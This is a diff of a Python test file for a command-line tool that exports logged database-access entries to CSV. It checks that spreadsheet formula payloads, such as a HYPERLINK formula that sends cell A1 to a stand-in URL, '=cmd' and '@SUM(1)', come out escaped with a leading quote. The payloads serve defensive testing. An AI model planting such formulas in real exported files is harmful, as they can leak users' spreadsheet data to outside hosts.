@@ -7,10 +7,12 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import threading
 from collections.abc import Iterator
 from datetime import UTC, datetime
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 from typing import Any, ClassVar
 
 import botocore.auth
@@ -20,8 +22,9 @@ from botocore.awsrequest import AWSRequest
 from botocore.credentials import Credentials
 from click.testing import CliRunner
 
+from chalicelib.schema import COLUMN_NAMES
 from deutzia_cli.api import Target, sign
-from deutzia_cli.main import cli, main
+from deutzia_cli.main import CSV_COLUMNS, cli, main
 
 CLOCK = datetime(2015, 8, 30, 12, 36, 0, tzinfo=UTC)
 EXAMPLE = Credentials("AKIDEXAMPLE", "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY")
@@ -213,6 +216,9 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
         "user_agent": '=HYPERLINK("https://example.com/?"&A1,"open")',
         "source_ip": "@SUM(1)",
         "item_index": 0,
+        "attribute_names": ["id", "=cmd", "é"],
+        "read_only": True,
+        "table_name": "Music",
     }
     _Answers.status, _Answers.body = 200, {"entries": [entry], "next_token": None}
     with pytest.raises(SystemExit) as exit_:
@@ -222,7 +228,17 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
     assert row["user_agent"] == '\'=HYPERLINK("https://example.com/?"&A1,"open")'
     assert (row["error_message"], row["source_ip"]) == ("'-2+3", "'@SUM(1)")
     assert (row["item_key"], row["principal_arn"]) == ('{"id":"=1+1"}', entry["principal_arn"])
-    assert (row["success"], row["item_index"], row["error_code"]) == ("False", "0", "")
+    assert (row["success"], row["read_only"], row["item_index"], row["error_code"]) == ("false", "true", "0", "")
+    assert (row["attribute_names"], row["table_name"]) == ('["id","=cmd","é"]', "Music")
+
+
+def test_csv_has_every_column_of_the_record_and_the_page_writes_the_same() -> None:
+    assert set(CSV_COLUMNS) == {*COLUMN_NAMES, "table_name"}
+    assert len(CSV_COLUMNS) == len(set(CSV_COLUMNS))
+    page = (Path(__file__).parents[2] / "chalicelib" / "ui" / "index.html").read_text(encoding="utf-8")
+    listed = re.search(r"const CSV_COLUMNS = \[(.*?)\];", page, re.DOTALL)
+    assert listed is not None
+    assert tuple(re.findall(r'"([a-z_]+)"', listed.group(1))) == CSV_COLUMNS
 
 
 def test_the_table_shows_escape_sequences_and_bidi_overrides_instead_of_obeying_them(
